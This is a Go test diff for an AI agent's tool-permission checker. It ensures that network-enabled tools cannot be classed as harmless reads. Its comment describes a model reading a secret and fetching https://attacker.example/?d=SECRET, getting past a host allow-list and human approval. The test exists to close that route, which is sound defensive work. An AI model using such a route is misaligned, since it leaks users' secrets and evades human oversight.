@@ -3,6 +3,7 @@ package executor
 import (
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 )
 
@@ -51,6 +52,39 @@ func TestExampleToolsConfigIsSafe(t *testing.T) {
 	} {
 		if e := st.checkArgs(c.b, c.args, "."); e == nil {
 			t.Errorf("%s %v allowed", c.b.Name, c.args)
+		}
+	}
+}
+
+// A tool whose sandbox has the network sends what the model chose (a
+// URL's query, a request's body) to any host it can reach: the shipped
+// example's MCP fetch server was effect read, so under the default policy
+// a model read a secret with fs.read and fetched
+// https://attacker.example/?d=SECRET with no human, past http.request's
+// host allow-list and private-address refusals. Such a tool is refused
+// unless it is irreversible (the default policy asks a human for each
+// call).
+func TestNetworkToolsAreNeverReads(t *testing.T) {
+	for _, c := range []struct{ name, yaml, want string }{
+		{"read program", "shell:\n  sandbox: {network: true}\n  binaries: [{name: echo, effect: read}]\n", "shell.binaries[0].effect"},
+		{"reversible program", "shell:\n  sandbox: {network: true}\n  binaries: [{name: echo, effect: reversible}]\n", "shell.binaries[0].effect"},
+		{"read MCP tool", "mcp:\n  - {name: f, command: echo, sandbox: {network: true}, tools: {fetch: {effect: read}}}\n", "mcp[0].tools.fetch.effect"},
+		{"reversible MCP tool", "mcp:\n  - {name: f, command: echo, sandbox: {network: true}, tools: {fetch: {effect: reversible}}}\n", "mcp[0].tools.fetch.effect"},
+	} {
+		_, err := ParseToolsConfig("tools.yaml", []byte(c.yaml))
+		if err == nil || !strings.Contains(err.Error(), c.want) || !strings.Contains(err.Error(), "network") {
+			t.Errorf("%s: %v, want an error at %s about the network", c.name, err, c.want)
+		}
+	}
+	for _, ok := range []string{
+		"shell:\n  sandbox: {network: true}\n  binaries: [{name: echo, effect: irreversible}]\n",
+		"shell:\n  sandbox: {network: true}\n  binaries: [{name: echo}]\n", // irreversible by default
+		"shell:\n  binaries: [{name: echo, effect: read}]\n",               // no network
+		"mcp:\n  - {name: f, command: echo, sandbox: {network: true}, tools: {fetch: {effect: irreversible}}}\n",
+		"mcp:\n  - {name: f, command: echo, tools: {fetch: {effect: read}}}\n",
+	} {
+		if _, err := ParseToolsConfig("tools.yaml", []byte(ok)); err != nil {
+			t.Errorf("%q: %v", ok, err)
 		}
 	}
 }
